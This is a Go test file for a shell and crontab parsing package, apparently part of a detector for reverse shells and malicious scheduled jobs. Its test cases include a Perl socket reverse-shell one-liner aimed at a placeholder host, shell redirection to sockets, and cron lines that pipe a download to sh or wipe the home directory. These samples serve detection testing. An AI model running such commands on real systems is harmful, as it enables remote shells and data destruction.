package parse

import (
	"strings"
	"testing"
)

func TestInteractiveShell(t *testing.T) {
	for _, c := range []struct {
		line string
		want bool
	}{
		{"/bin/sh -i", true},
		{"bash", true},
		{"/bin/sh -i <&3 >&3 2>&3", true},
		{"sh -i <&${_interp} >&${_interp}", true},
		{"bash -c id", false},
		{"sh -ec make", false},
		{"sh build.sh", false},
		{"python3 -i", false},
		{"ls -la", false},
		{"", false},
	} {
		if got := interactiveShell(strings.Fields(c.line)); got != c.want {
			t.Errorf("interactiveShell(%q) = %v, want %v", c.line, got, c.want)
		}
	}
}

func TestPerlSocketShell(t *testing.T) {
	for _, c := range []struct {
		code string
		want bool
	}{
		{`use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");`, true},
		{`use IO::Socket; $c=IO::Socket::INET->new("h:1"); system("bash")`, true},
		{`use Socket; print "ok\n"`, false},
		{`exec("/bin/sh -i")`, false},
		{`use Socket; system("make test")`, false},
	} {
		if got := perlSocketShell(c.code); got != c.want {
			t.Errorf("perlSocketShell(%q) = %v, want %v", c.code, got, c.want)
		}
	}
}

func TestCronCommands(t *testing.T) {
	for _, c := range []struct {
		text   string
		system bool
		want   string
	}{
		{"* * * * * curl x | sh\n", false, "curl x | sh\n"},
		{"# c\nMAILTO=me\n@reboot  rm -rf ~\n", false, "rm -rf ~\n"},
		{"0 3 * * * root /usr/bin/backup --all\n", true, "/usr/bin/backup --all\n"},
		{"0 3 * * * date +\\%F >> /tmp/d\n", false, "date +\\%F >> /tmp/d\n"},
		{"0 3 * * * mail -s hi me%body text\n", false, "mail -s hi me\n"},
		{"* * * *\n", false, ""},
	} {
		if got := CronCommands(c.text, c.system); got != c.want {
			t.Errorf("CronCommands(%q, %v) = %q, want %q", c.text, c.system, got, c.want)
		}
	}
}

// FuzzCronCommands: any crontab text gives commands without panicking, and
// never more text than it was given.
func FuzzCronCommands(f *testing.F) {
	for _, s := range []string{"* * * * * curl x | sh\n", "@reboot rm -rf ~", "0\t3 * *\v* root x%y", "\u00a0* * * * * a", "*\r* * * * b"} {
		f.Add(s, false)
		f.Add(s, true)
	}
	f.Fuzz(func(t *testing.T, text string, system bool) {
		if out := CronCommands(text, system); len(out) > len(text)+strings.Count(text, "\n")+1 {
			t.Errorf("CronCommands(%q) = %q: longer than its input", text, out)
		}
	})
}
